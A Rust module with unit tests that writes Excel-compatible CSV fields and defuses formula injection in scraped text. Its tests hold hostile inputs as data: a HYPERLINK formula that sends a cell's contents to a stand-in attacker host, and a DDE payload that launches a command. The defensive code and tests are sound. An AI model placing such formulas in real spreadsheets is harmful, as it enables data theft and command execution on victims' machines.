//! CSV as Excel reads it: fields quoted when they hold a comma, a quote or a line break, and
//! scraped text that Excel would run as a formula made inert.

/// One field, quoted when it needs to be. A field that starts like a formula (`=`, `+`, `-`,
/// `@`, a tab or a carriage return) and is not a plain number gets a leading `'`, so that a
/// scraped title such as `=HYPERLINK(…)` is shown as text instead of run.
pub fn field(s: &str) -> String {
    let s = if starts_like_formula(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

fn starts_like_formula(s: &str) -> bool {
    let Some(first) = s.chars().next() else {
        return false;
    };
    if !matches!(
        first,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠'
    ) {
        return false;
    }
    // a signed number or percentage is data, not a formula
    let number = s.strip_suffix('%').unwrap_or(s);
    !(matches!(first, '+' | '-') && number.len() > 1 && number.parse::<f64>().is_ok())
}

#[cfg(test)]
mod tests {
    use super::field;

    #[test]
    fn fields_are_quoted_only_when_needed() {
        assert_eq!(field("科协"), "科协");
        assert_eq!(field("a,\"b\""), "\"a,\"\"b\"\"\"");
        assert_eq!(field("两行\n文字"), "\"两行\n文字\"");
    }

    #[test]
    fn formulas_are_made_inert() {
        assert_eq!(
            field("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(field("-2+3"), "'-2+3");
        assert_eq!(field("\t=1"), "'\t=1");
        assert_eq!(field("＝1+1"), "'＝1+1");
        // numbers stay numbers
        assert_eq!(field("-12"), "-12");
        assert_eq!(field("+3.5%"), "+3.5%");
        assert_eq!(field("2026-11-23 09:00"), "2026-11-23 09:00");
        assert_eq!(field(""), "");
    }
}
